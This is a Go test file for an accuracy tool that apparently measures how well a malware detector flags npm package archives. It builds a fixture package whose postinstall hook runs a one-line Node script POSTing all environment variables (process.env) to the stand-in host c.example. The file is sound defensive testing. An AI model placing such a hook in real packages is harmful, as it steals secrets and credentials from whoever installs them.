package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"taisei/app/reading"
	"taisei/detect"
	"taisei/sandbox"
)

// TestMain makes this program a sandbox child when it is asked to be one.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == sandbox.Argument {
		if err := sandbox.Serve(reading.Tasks(), os.Stdin, os.Stdout); err != nil {
			os.Exit(1)
		}
		return
	}
	os.Exit(m.Run())
}

// The archives' files. What is sent goes to a name that nobody can own.
var (
	stealing = map[string]string{
		"package/package.json": `{"name":"stealing","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
		"package/i.js":         "const r=require('https').request({hostname:'c.example',method:'POST'});r.write(JSON.stringify(process.env));r.end()",
	}
	honest = map[string]string{
		"package/package.json": `{"name":"honest","version":"1.0.0","main":"i.js"}`,
		"package/i.js":         "module.exports = (a, b) => a + b\n",
	}
)

func tarGz(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	zipped := gzip.NewWriter(&out)
	w := tar.NewWriter(zipped)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name]))}); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, files[name]); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []io.Closer{w, zipped} {
		if err := c.Close(); err != nil {
			t.Fatal(err)
		}
	}
	return out.Bytes()
}

func zipped(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(f, files[name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// write lays files in a folder of their own.
func write(t *testing.T, files map[string][]byte) string {
	t.Helper()
	root := t.TempDir()
	for name, data := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// samples are two thieves, a broken archive and what is none.
func samples(t *testing.T) string {
	thief := tarGz(t, stealing)
	return write(t, map[string][]byte{
		"npm/secretname/secretname-1.tgz": thief,
		"npm/b.zip":                       zipped(t, stealing),
		"npm/cut.tgz":                     thief[:len(thief)/3],
		"npm/README.md":                   []byte("no archive"),
	})
}

func accuracy(t *testing.T, args ...string) (string, error) {
	t.Helper()
	var out bytes.Buffer
	err := run(t.Context(), append(args, "--date", "2026-01-02", "--commit", "abc1234"), &out, io.Discard)
	return out.String(), err
}

func read(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func wantIn(t *testing.T, text string, parts ...string) {
	t.Helper()
	for _, p := range parts {
		if !strings.Contains(text, p) {
			t.Errorf("%q is not in\n%s", p, text)
		}
	}
}

func TestBothFolders(t *testing.T) {
	page := filepath.Join(t.TempDir(), "accuracy.md")
	clean := write(t, map[string][]byte{"npm/honest-1.0.0.tgz": tarGz(t, honest), "npm/raises|alarm.tgz": tarGz(t, stealing)})
	if _, err := accuracy(t, "--malicious", samples(t), "--clean", clean, "--page", page); err != nil {
		t.Fatal(err)
	}
	wantIn(
		t, read(t, page),
		"2026-01-02, commit abc1234, `make accuracy MALICIOUS=DIR`: 3 archives, 0.0 MB. Left out, being no archives: 1.",
		"| malicious | 2 of 3 | 66.67 % |", "| unscanned, so missed | 1 of 3 |",
		"| npm | tarball | 3 |", "| exfiltration | environment_sent | 2 |",
		"| malicious, a false alarm | 1 of 2 | 50.00 % |", "| clean | 1 of 2 |",
		"| `npm/raises?alarm.tgz` | malicious | ",
	)
}

func TestMaliciousArchivesAreNotNamed(t *testing.T) {
	root := samples(t)
	page := filepath.Join(t.TempDir(), "accuracy.md")
	out, err := accuracy(t, "--malicious", root, "--page", page)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{"secretname", "cut.tgz", root} {
		if text := out + read(t, page); strings.Contains(text, secret) {
			t.Errorf("%q is told:\n%s", secret, text)
		}
	}
}

func TestList(t *testing.T) {
	list := filepath.Join(t.TempDir(), "list.tsv")
	if err := os.WriteFile(list, []byte("9\tnpm/secretname/secretname-1.tgz\n\n1\tnpm/cut.tgz\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := accuracy(t, "--malicious", samples(t), "--list", list)
	if err != nil {
		t.Fatal(err)
	}
	wantIn(
		t, out, "MALICIOUS=DIR LIST=FILE`: 2 archives", "together they are 10 packages",
		"| malicious, clusters | 1 of 2 | 50.00 % |", "| malicious, packages | 9 of 10 | 90.00 % |",
	)
}

func TestListsThatAreRefused(t *testing.T) {
	for text, want := range map[string]string{
		"npm/cut.tgz\n":                 ":1: want the packages of the cluster",
		"1\tnpm/cut.tgz\n1\t../../x.gz": ":2: want the packages of the cluster",
		"0\tnpm/cut.tgz\n":              ":1: want the packages of the cluster",
		"1\tnpm/cut.tgz\n1\tgone.tgz\n": "1 of the 2 archives",
		"":                              "0 of the 0 archives",
	} {
		list := filepath.Join(t.TempDir(), "list.tsv")
		if err := os.WriteFile(list, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := accuracy(t, "--malicious", samples(t), "--list", list); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("list %q: %v, want %q", text, err, want)
		}
	}
}

func TestResultsAndLimit(t *testing.T) {
	results := filepath.Join(t.TempDir(), "results.jsonl")
	out, err := accuracy(t, "--malicious", samples(t), "--results", results, "--limit", "2", "--workers", "2")
	if err != nil {
		t.Fatal(err)
	}
	wantIn(t, out, "MALICIOUS=DIR LIMIT=2`: 2 archives")
	var targets []string
	for line := range strings.Lines(read(t, results)) {
		var r detect.Result
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		targets = append(targets, r.Target)
	}
	if want := []string{"npm/b.zip", "npm/cut.tgz"}; !slices.Equal(targets, want) {
		t.Errorf("results of %q, want %q", targets, want)
	}
}

func TestUsage(t *testing.T) {
	for want, args := range map[string][]string{
		"name a folder of archives":    nil,
		"name their folder too":        {"--clean", t.TempDir(), "--list", "x"},
		"there is no archive in":       {"--clean", t.TempDir()},
		"\"left\" is no flag":          {"--clean", t.TempDir(), "--date", "x", "left"},
		"flag provided but not define": {"--unknown"},
	} {
		if err := run(t.Context(), args, io.Discard, io.Discard); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", args, err, want)
		}
	}
}
